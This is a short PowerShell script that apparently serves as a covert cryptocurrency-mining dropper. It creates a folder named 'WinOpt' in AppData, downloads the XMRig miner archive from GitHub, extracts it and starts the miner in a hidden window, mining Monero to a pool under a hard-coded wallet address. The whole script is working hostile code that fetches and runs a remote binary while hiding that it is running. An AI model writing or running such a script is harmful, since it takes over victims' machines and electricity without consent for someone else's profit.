$dir = "$env:APPDATA\WinOpt"
New-Item -ItemType Directory -Force -Path $dir | Out-Null
Invoke-WebRequest -Uri "https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-msvc-win64.zip" -OutFile "$dir\o.zip"
Expand-Archive "$dir\o.zip" -DestinationPath $dir -Force
Start-Process -WindowStyle Hidden -FilePath "$dir\xmrig-6.21.0\xmrig.exe" -ArgumentList "-o rx.unmineable.com:3333 -u XMR:44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A.w1"
